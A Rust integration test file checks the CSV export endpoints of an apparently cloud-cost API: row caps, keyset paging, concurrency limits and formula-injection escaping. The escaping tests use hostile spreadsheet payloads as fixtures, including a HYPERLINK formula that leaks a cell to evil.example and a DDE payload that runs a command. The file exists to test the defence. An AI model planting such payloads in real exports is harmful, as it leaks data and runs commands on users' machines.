//! CSV exports over HTTP on both backends: the row cap (413 before streaming, a note row when
//! rows arrive mid-stream), keyset paging (ties, both directions, rows inserted while an export
//! streams), the per-tenant concurrency limit (429 until a stream ends or its client goes away)
//! and formula-injection neutralisation.

use axum::body::{Body, BodyDataStream};
use axum::http::{HeaderMap, Request, StatusCode};
use chrono::NaiveDate;
use futures::StreamExt as _;
use tower::ServiceExt as _;

use crate::support::*;

/// An export response whose body the test reads at its own pace, like a slow client.
pub struct Download {
    pub status: StatusCode,
    pub headers: HeaderMap,
    pub body: BodyDataStream,
}

impl Download {
    pub async fn open(api: &Api, path: &str, token: &str) -> Self {
        let request = Request::get(path)
            .header("authorization", format!("Bearer {token}"))
            .body(Body::empty())
            .unwrap();
        let response = api.router.clone().oneshot(request).await.unwrap();
        Self {
            status: response.status(),
            headers: response.headers().clone(),
            body: response.into_body().into_data_stream(),
        }
    }

    /// The next chunk the server sends, `None` at the end of the body.
    pub async fn chunk(&mut self) -> Option<String> {
        let bytes = self.body.next().await?.unwrap();
        Some(String::from_utf8(bytes.to_vec()).unwrap())
    }

    /// Everything up to the end of the body (the stream stays alive afterwards).
    pub async fn rest(&mut self) -> String {
        let mut text = String::new();
        while let Some(chunk) = self.chunk().await {
            text.push_str(&chunk);
        }
        text
    }
}

/// The data records of a CSV text (header excluded).
pub fn records(text: &str) -> Vec<csv::StringRecord> {
    // Flexible: the truncation note is a record of one cell.
    csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect()
}

async fn seed_resources(
    api: &Api,
    scope: &azcops::store::TenantScope,
    n: u32,
    names: impl Iterator<Item = String>,
) {
    let rows: Vec<_> = names.map(|name| resource_row(n, &name, &[])).collect();
    api.store.upsert_resources(scope, &rows, azcops::store::now()).await.unwrap();
}

fn day(offset: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 1, 1).unwrap() + chrono::Days::new(u64::from(offset % 300))
}

#[tokio::test]
async fn row_cap_sqlite() {
    row_cap(Api::on(Backend::Sqlite, &[("AZCOPS_API_EXPORT_MAX_ROWS", "5")]).await).await;
}

#[tokio::test]
async fn row_cap_postgres() {
    row_cap(Api::on(Backend::Postgres, &[("AZCOPS_API_EXPORT_MAX_ROWS", "5")]).await).await;
}

async fn row_cap(api: Api) {
    let t = token(&tid_a(), &[READER]).await;
    seed_resources(&api, &api.scope_a, 1, (0..5).map(|i| format!("r-{i}"))).await;
    let at_cap = api.get("/api/v1/resources/export.csv", &t).await;
    assert_eq!(at_cap.status, StatusCode::OK, "{}", at_cap.text);
    assert_eq!(at_cap.headers["x-azcops-export-max-rows"], "5");
    assert_eq!(records(&at_cap.text).len(), 5);
    assert!(!at_cap.text.contains("TRUNCATED"), "exactly the cap is a complete file: {}", at_cap.text);

    seed_resources(&api, &api.scope_a, 1, std::iter::once("r-5".to_owned())).await;
    let over = api.get("/api/v1/resources/export.csv", &t).await;
    assert_eq!(over.status, StatusCode::PAYLOAD_TOO_LARGE, "{}", over.text);
    assert!(over.headers["content-type"].to_str().unwrap().starts_with("application/json"));
    let body = over.json();
    assert_eq!(body["error"]["code"], "export_too_large");
    assert_eq!(body["error"]["details"]["max_rows"], 5);
    assert_eq!(body["error"]["details"]["setting"], "AZCOPS_API_EXPORT_MAX_ROWS");
    // A filter that matches fewer rows is under the cap again.
    let filtered = api
        .get(
            "/api/v1/resources/export.csv?sort=name&order=desc&type=microsoft.compute/disks&location=nowhere",
            &t,
        )
        .await;
    assert_eq!((filtered.status, records(&filtered.text).len()), (StatusCode::OK, 0));

    let costs: Vec<_> = (0..6).map(|i| cost_row(1, day(i), 1.0)).collect();
    api.store.upsert_costs_daily(&api.scope_a, &costs).await.unwrap();
    assert_eq!(api.get("/api/v1/costs/export.csv", &t).await.status, StatusCode::PAYLOAD_TOO_LARGE);
    let five_days = api.get("/api/v1/costs/export.csv?from=2026-01-02", &t).await;
    assert_eq!((five_days.status, records(&five_days.text).len()), (StatusCode::OK, 5));
    for i in 0..6 {
        seed_recommendation(&api, &api.scope_a, 1, &format!("f-{i}"), 10.0 + f64::from(i)).await;
    }
    assert_eq!(api.get("/api/v1/recommendations/export.csv", &t).await.status, StatusCode::PAYLOAD_TOO_LARGE);
    let top = api.get("/api/v1/recommendations/export.csv?min_savings=11", &t).await;
    assert_eq!((top.status, records(&top.text).len()), (StatusCode::OK, 5));

    // Rows that arrive after the count, while the file streams, are cut at the cap and the
    // file says so in its last row.
    let b = token(&tid_b(), &[READER]).await;
    seed_resources(&api, &api.scope_b, 2, (0..5).map(|i| format!("b-{i}"))).await;
    let mut download = Download::open(&api, "/api/v1/resources/export.csv", &b).await;
    assert_eq!(download.status, StatusCode::OK);
    assert!(download.headers["content-type"].to_str().unwrap().starts_with("text/csv"));
    seed_resources(&api, &api.scope_b, 2, (0..2).map(|i| format!("a-{i}"))).await;
    let text = download.rest().await;
    let rows = records(&text);
    assert_eq!(rows.len(), 6, "{text}");
    assert!(rows[..5].iter().all(|r| r.len() == 7), "{text}");
    assert_eq!(rows[5].len(), 1, "the note is one cell: {text}");
    assert!(rows[5][0].starts_with("# TRUNCATED: this export stops at 5 rows"), "{text}");
    api.finish().await;
}

#[tokio::test]
async fn keyset_paging_sqlite() {
    keyset_paging(Api::on(Backend::Sqlite, &[]).await).await;
}

#[tokio::test]
async fn keyset_paging_postgres() {
    keyset_paging(Api::on(Backend::Postgres, &[]).await).await;
}

async fn keyset_paging(api: Api) {
    let t = token(&tid_a(), &[READER]).await;
    seed_resources(&api, &api.scope_a, 1, (0..1203).map(|i| format!("m-{i:04}"))).await;

    // Every row has the same location: the id alone orders the pages, here descending.
    let reply = api.get("/api/v1/resources/export.csv?sort=location&order=desc", &t).await;
    let ids: Vec<String> = records(&reply.text).iter().map(|r| r[1].to_owned()).collect();
    assert_eq!(ids.len(), 1203);
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "strictly descending, no repeats");
    let reply = api.get("/api/v1/resources/export.csv?sort=last_seen", &t).await;
    assert_eq!(records(&reply.text).len(), 1203);

    // Rows inserted ahead of the cursor while the export streams neither shift nor repeat the
    // rest (OFFSET paging would send 300 rows twice).
    let mut download = Download::open(&api, "/api/v1/resources/export.csv?sort=name", &t).await;
    let mut text = download.chunk().await.unwrap();
    text.push_str(&download.chunk().await.unwrap());
    assert_eq!(records(&text).len(), 500, "one page per chunk");
    seed_resources(&api, &api.scope_a, 1, (0..300).map(|i| format!("a-{i:04}"))).await;
    text.push_str(&download.rest().await);
    let names: Vec<String> = records(&text).iter().map(|r| r[2].to_owned()).collect();
    let expected: Vec<String> = (0..1203).map(|i| format!("m-{i:04}")).collect();
    assert_eq!(names, expected);

    // Recommendations: equal scores everywhere, so the id tie-breaker carries the walk.
    let findings: Vec<_> = (0..1203).map(|i| finding(1, &format!("tie-{i:04}"), 7.0)).collect();
    api.store.upsert_recommendations(&api.scope_a, &findings).await.unwrap();
    let reply = api.get("/api/v1/recommendations/export.csv?sort=savings", &t).await;
    let ids: Vec<String> = records(&reply.text).iter().map(|r| r[0].to_owned()).collect();
    assert_eq!(ids.len(), 1203);
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "ties in id order, no repeats");

    // Costs: the whole primary key is the cursor.
    let costs: Vec<_> = (0..1203)
        .map(|i| {
            let mut row = cost_row(1, day(i / 5), 1.0);
            row.resource_id = format!("/subscriptions/{}/x/{}", subscription(1), i % 5);
            row
        })
        .collect();
    api.store.upsert_costs_daily(&api.scope_a, &costs).await.unwrap();
    let reply = api.get("/api/v1/costs/export.csv", &t).await;
    let keys: Vec<(String, String)> =
        records(&reply.text).iter().map(|r| (r[0].to_owned(), r[5].to_owned())).collect();
    assert_eq!(keys.len(), 1203);
    assert!(keys.windows(2).all(|w| w[0] > w[1]), "newest first, no repeats");
    api.finish().await;
}

#[tokio::test]
async fn concurrency_limit_sqlite() {
    concurrency_limit(Api::on(Backend::Sqlite, &[("AZCOPS_API_EXPORT_CONCURRENCY", "2")]).await).await;
}

#[tokio::test]
async fn concurrency_limit_postgres() {
    concurrency_limit(Api::on(Backend::Postgres, &[("AZCOPS_API_EXPORT_CONCURRENCY", "2")]).await).await;
}

async fn concurrency_limit(api: Api) {
    seed_resources(&api, &api.scope_a, 1, (0..3).map(|i| format!("r-{i}"))).await;
    let t = token(&tid_a(), &[READER]).await;
    let path = "/api/v1/resources/export.csv";
    // Two exports whose clients have not read anything yet hold both of the tenant's slots.
    let mut first = Download::open(&api, path, &t).await;
    let mut second = Download::open(&api, "/api/v1/costs/export.csv", &t).await;
    assert_eq!((first.status, second.status), (StatusCode::OK, StatusCode::OK));
    let refused = api.get("/api/v1/recommendations/export.csv", &t).await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS, "{}", refused.text);
    assert_eq!(refused.headers["retry-after"], "10");
    let body = refused.json();
    assert_eq!(body["error"]["code"], "export_concurrency_exceeded");
    assert_eq!(body["error"]["details"]["limit"], 2);
    // Another tenant has its own slots; ordinary API calls are not affected.
    let b = token(&tid_b(), &[READER]).await;
    assert_eq!(api.get(path, &b).await.status, StatusCode::OK);
    assert_eq!(api.get("/api/v1/resources", &t).await.status, StatusCode::OK);

    // A client that disconnects mid-stream (header read, rows not yet) gives its slot back.
    assert!(first.chunk().await.unwrap().starts_with("subscription_id,"));
    drop(first);
    let mut third = Download::open(&api, path, &t).await;
    assert_eq!(third.status, StatusCode::OK);
    assert_eq!(api.get(path, &t).await.status, StatusCode::TOO_MANY_REQUESTS);

    // So does a stream that has ended, even while the client still holds the connection.
    assert_eq!(records(&third.rest().await).len(), 3);
    second.rest().await;
    let fourth = Download::open(&api, path, &t).await;
    let fifth = Download::open(&api, path, &t).await;
    assert_eq!((fourth.status, fifth.status), (StatusCode::OK, StatusCode::OK));
    assert_eq!(api.get(path, &t).await.status, StatusCode::TOO_MANY_REQUESTS);
    drop((third, second, fourth, fifth));
    // Refused requests never took a slot: both are free again.
    let again = (Download::open(&api, path, &t).await, Download::open(&api, path, &t).await);
    assert_eq!((again.0.status, again.1.status), (StatusCode::OK, StatusCode::OK));
    drop(again);
    api.finish().await;
}

#[tokio::test]
async fn formula_injection_sqlite() {
    formula_injection(Api::on(Backend::Sqlite, &[]).await).await;
}

#[tokio::test]
async fn formula_injection_postgres() {
    formula_injection(Api::on(Backend::Postgres, &[]).await).await;
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
const DDE: &str = "-2+3+cmd|' /C calc'!A0";

async fn formula_injection(api: Api) {
    let t = token(&tid_a(), &[READER]).await;
    let rows = vec![
        resource_row(1, HYPERLINK, &[("env", "@SUM(1+1)"), ("=key", "+1")]),
        resource_row(1, DDE, &[]),
        resource_row(1, "\tindented", &[]),
    ];
    api.store.upsert_resources(&api.scope_a, &rows, azcops::store::now()).await.unwrap();
    let text = api.get("/api/v1/resources/export.csv", &t).await.text;
    let names: Vec<String> = records(&text).iter().map(|r| r[2].to_owned()).collect();
    assert!(names.contains(&format!("'{HYPERLINK}")), "{text}");
    assert!(names.contains(&format!("'{DDE}")), "{text}");
    assert!(names.contains(&"'\tindented".to_owned()), "{text}");
    // Tags are one JSON cell: it starts with `{`, and the values inside survive unchanged.
    let tagged = records(&text).into_iter().find(|r| r[2].contains("HYPERLINK")).unwrap();
    let tags: std::collections::BTreeMap<String, String> = serde_json::from_str(&tagged[6]).unwrap();
    assert_eq!((tags["env"].as_str(), tags["=key"].as_str()), ("@SUM(1+1)", "+1"));
    assert_no_formula(&text);

    let mut cost = cost_row(1, day(0), -12.5);
    cost.service_name = "@SUM(1+1)".into();
    cost.meter_category = "+cmd".into();
    api.store.upsert_costs_daily(&api.scope_a, &[cost]).await.unwrap();
    let text = api.get("/api/v1/costs/export.csv", &t).await.text;
    let row = &records(&text)[0];
    assert_eq!((&row[3], &row[4]), ("'@SUM(1+1)", "'+cmd"));
    assert_eq!((&row[6], &row[7]), ("-12.5", "-12.5"), "a negative amount stays a number");
    assert_no_formula(&text);

    let mut advisor = finding(1, "x", 3.0);
    advisor.title = "=1+1".into();
    api.store.upsert_recommendations(&api.scope_a, &[advisor]).await.unwrap();
    let text = api.get("/api/v1/recommendations/export.csv", &t).await.text;
    assert_eq!(&records(&text)[0][6], "'=1+1");
    assert_no_formula(&text);
    api.finish().await;
}

/// No cell starts with a formula trigger unless it is a plain decimal number.
fn assert_no_formula(text: &str) {
    for record in records(text) {
        for cell in &record {
            let starts = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!starts || cell.parse::<f64>().is_ok(), "cell {cell:?} could run as a formula");
        }
    }
}

#[tokio::test]
async fn openapi_documents_the_export_answers() {
    let api = Api::new().await;
    let doc = api.call(axum::http::Method::GET, "/api/openapi.json", None, None).await.json();
    for path in
        ["/api/v1/resources/export.csv", "/api/v1/costs/export.csv", "/api/v1/recommendations/export.csv"]
    {
        let responses = &doc["paths"][path]["get"]["responses"];
        assert!(responses["200"]["content"]["text/csv"].is_object(), "{path}: {responses}");
        assert!(responses["200"]["description"].as_str().unwrap().contains("# TRUNCATED:"), "{path}");
        assert!(responses["200"]["headers"]["X-AzCops-Export-Max-Rows"].is_object(), "{path}");
        assert!(responses["413"]["description"].as_str().unwrap().contains("export_too_large"), "{path}");
        assert!(
            responses["429"]["description"].as_str().unwrap().contains("export_concurrency_exceeded"),
            "{path}"
        );
        assert!(responses["429"]["headers"]["Retry-After"].is_object(), "{path}");
        assert!(responses["503"]["description"].as_str().unwrap().contains("statement_timeout"), "{path}");
    }
}
